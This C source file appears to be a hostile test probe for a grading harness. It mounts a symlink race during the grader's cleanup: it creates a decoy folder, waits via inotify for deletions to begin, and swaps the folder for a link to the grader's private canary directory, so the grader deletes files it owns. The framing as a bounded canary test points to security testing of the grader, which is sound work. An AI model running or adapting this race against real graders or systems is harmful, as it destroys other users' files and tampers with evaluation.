/* echo_server.c - hostile: make the grader delete files in a folder only it may write.
 *
 * The scratch directory (our working directory) is removed by the grader, by name, after
 * the check. A folder d/ in it holds files named like the grading user's private files; a
 * daemon waits until the grader starts removing d/'s files, then swaps d/ for a link to
 * that private folder: the removals the grader decided on the real folder ("d/canary")
 * land on the private one. Bounded to 10 s. */
#include "wlh.h"

#include <poll.h>
#include <sys/inotify.h>

int main(void)
{
	static const char *const names[] = { "canary", "gradebook", NULL };
	char path[64];

	if (mkdir("d", 0755) < 0)
		return 1;
	/* Many entries make the removal slower, so the window is wider. */
	for (int i = 0; i < 2000; i++) {
		snprintf(path, sizeof path, "d/f%04d", i);
		close(open(path, O_WRONLY | O_CREAT, 0644));
		if (i % 500 == 0)
			for (int k = 0; names[k]; k++) {
				snprintf(path, sizeof path, "d/%s", names[k]);
				close(open(path, O_WRONLY | O_CREAT, 0644));
			}
	}
	if (wlh_daemon() != 0)
		return 1;
	/* The first removal inside d/ says the grader is walking it: from then on every path
	 * "d/NAME" it removes goes through the link. */
	int in = inotify_init1(IN_CLOEXEC);
	struct pollfd p = { .fd = in, .events = POLLIN };
	if (in < 0 || inotify_add_watch(in, "d", IN_DELETE) < 0 || poll(&p, 1, 10000) != 1)
		return 1;
	if (rename("d", "d.real") == 0 && symlink(WLH_CANARYDIR, "d") == 0)
		wlh_sleep_ms(1000);
	struct stat st;
	if (stat(WLH_CANARY, &st) < 0 && errno == ENOENT)
		wlh_evidence("cleanup-race", "the grader deleted %s", WLH_CANARY);
	return 0;
}
